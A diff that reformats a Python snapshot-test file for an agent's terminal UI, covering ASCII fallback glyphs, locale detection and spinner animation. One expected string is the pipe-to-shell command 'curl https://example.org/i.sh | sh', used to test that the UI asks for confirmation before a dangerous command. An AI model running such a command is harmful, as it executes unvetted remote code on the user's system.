@@ -1,4 +1,5 @@
-"""The screen in ASCII, on every picture of the screen; nothing moves when it is not to; every width holds."""
+"""The screen in ASCII, on every picture of the screen; nothing moves when it is not to; every width
+holds."""
 
 from __future__ import annotations
 
@@ -31,14 +32,27 @@ from tests.tui.story import NOW, Story, still
 from tests.tui.test_snapshots import STORIES as WORK
 from tests.tui.test_snapshots_reading import STORIES as READING
 
-PICTURES = [story for story in (*WORK, *READING) if (story.size, story.theme) == ((100, 30), "dark")]
+PICTURES = [
+    story for story in (*WORK, *READING) if (story.size, story.theme) == ((100, 30), "dark")
+]
 CORE = ROOT / "agent_tui" / "tui"
 WIDTHS = (40, 60, 100, 200, 300)
 NEEDED = {
-    "a_long_answer_reads_like_a_page": ("The price is rounded twice", "def total(items", "Print what total gives"),
+    "a_long_answer_reads_like_a_page": (
+        "The price is rounded twice",
+        "def total(items",
+        "Print what total gives",
+    ),
     "a_change_is_asked_with_its_diff": ("return sum(it).quantize(CENT)", "this tool on this file"),
-    "a_disaster_is_asked_with_a_key_of_its_own": ("curl https://example.org/i.sh | sh", "asked in every mode"),
-    "a_failed_command_says_its_code_and_keeps_its_last_lines": ("Run ls shop", "exit code 1", "you said no"),
+    "a_disaster_is_asked_with_a_key_of_its_own": (
+        "curl https://example.org/i.sh | sh",
+        "asked in every mode",
+    ),
+    "a_failed_command_says_its_code_and_keeps_its_last_lines": (
+        "Run ls shop",
+        "exit code 1",
+        "you said no",
+    ),
     "three_prompts_wait_their_turn": ("Then run the tests.", "queued (3)"),
     "a_first_start_says_what_was_tried": ("nothing answers there", "OPENAI_API_KEY is not set"),
 }
@@ -71,15 +85,27 @@ def test_every_glyph_in_the_code_of_the_screen_has_a_twin() -> None:
         tree = ast.parse(file.read_text())
         said = {id(node.value) for node in ast.walk(tree) if isinstance(node, ast.Expr)}
         for node in ast.walk(tree):
-            if isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in said:
-                glyphs |= set("" if node.value.startswith("[") else node.value)  # a class of letters is not drawn
-    drawn = {c for c in glyphs if not c.isascii() and cell_len(c) == 1 and unicodedata.category(c)[0] in "SP"}
+            if (
+                isinstance(node, ast.Constant)
+                and isinstance(node.value, str)
+                and id(node) not in said
+            ):
+                glyphs |= set(
+                    "" if node.value.startswith("[") else node.value
+                )  # a class of letters is not drawn
+    drawn = {
+        c
+        for c in glyphs
+        if not c.isascii() and cell_len(c) == 1 and unicodedata.category(c)[0] in "SP"
+    }
     assert set(SPINNER) <= drawn
     assert {c for c in drawn if ord(c) not in ascii.TWINS} == set()
 
 
 def test_twins_are_one_cell_of_ascii_and_other_text_stays() -> None:
-    assert all(len(to) == 1 and to.isascii() and cell_len(chr(c)) == 1 for c, to in ascii.TWINS.items())
+    assert all(
+        len(to) == 1 and to.isascii() and cell_len(chr(c)) == 1 for c, to in ascii.TWINS.items()
+    )
     assert ascii.twin("❯ naïve 日本 … done ✓") == "> naïve 日本 ~ done +"
 
 
@@ -93,13 +119,20 @@ def test_a_vowel_sign_keeps_the_cell_that_it_is_drawn_in() -> None:
 @pytest.mark.parametrize(
     ("environment", "limited"),
     [
-        ({}, False), ({"LANG": "C.UTF-8"}, False), ({"LANG": "de_DE.utf8", "TERM": "xterm"}, False),
-        ({"LANG": "de_DE.ISO-8859-1"}, True), ({"LC_ALL": "C", "LANG": "en_US.UTF-8"}, True),
-        ({"LC_CTYPE": "C.UTF-8", "LANG": "C"}, False), ({"TERM": "linux", "LANG": "C.UTF-8"}, True),
-        ({"TERM": "dumb"}, True), ({"TERM": "xterm-256color", "LC_ALL": ""}, False),
+        ({}, False),
+        ({"LANG": "C.UTF-8"}, False),
+        ({"LANG": "de_DE.utf8", "TERM": "xterm"}, False),
+        ({"LANG": "de_DE.ISO-8859-1"}, True),
+        ({"LC_ALL": "C", "LANG": "en_US.UTF-8"}, True),
+        ({"LC_CTYPE": "C.UTF-8", "LANG": "C"}, False),
+        ({"TERM": "linux", "LANG": "C.UTF-8"}, True),
+        ({"TERM": "dumb"}, True),
+        ({"TERM": "xterm-256color", "LC_ALL": ""}, False),
     ],
-)  # fmt: skip
-def test_a_terminal_that_can_show_nothing_else_is_known(environment: dict[str, str], limited: bool) -> None:
+)
+def test_a_terminal_that_can_show_nothing_else_is_known(
+    environment: dict[str, str], limited: bool
+) -> None:
     assert ascii.wanted(environment) is limited
 
 
@@ -109,7 +142,11 @@ def test_the_spinner_stands_still_without_animation_and_the_clock_counts() -> No
         play.model = replace(play.model, look=look)
         play.begin("go")
         states = [play.tick(0.45).status for _ in range(6)]
-        return [(state.spinner, "".join(span.text for span in state.spans)) for state in states if state is not None]
+        return [
+            (state.spinner, "".join(span.text for span in state.spans))
+            for state in states
+            if state is not None
+        ]
 
     moving, calm = turn(Look()), turn(Look(animation=False))
     assert len({frame for frame, _ in moving}) > 3
